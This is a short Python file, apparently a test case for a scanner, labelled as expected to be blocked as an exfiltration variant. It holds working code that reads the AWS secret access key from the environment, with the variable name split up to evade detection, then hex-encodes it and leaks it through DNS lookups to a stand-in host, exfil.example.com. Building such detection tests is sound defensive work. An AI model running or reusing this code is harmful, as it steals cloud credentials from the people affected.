# expect: BLOCKED category: exfiltration variant-of: risky/exfiltration/dns_tunnel.py technique: alias+concat
import binascii as _m0
import os as _m1
import socket as _m2
secret = _m1.environ.get('AWS_SEC' + 'RET_ACC' + 'ESS_KEY', '')
encoded = _m0.hexlify(secret.encode()).decode()
for i in range(0, len(encoded), 60):
    try:
        _m2.gethostbyname(f'{encoded[i:i + 60]}.x.exfil.example.com')
    except OSError:
        pass
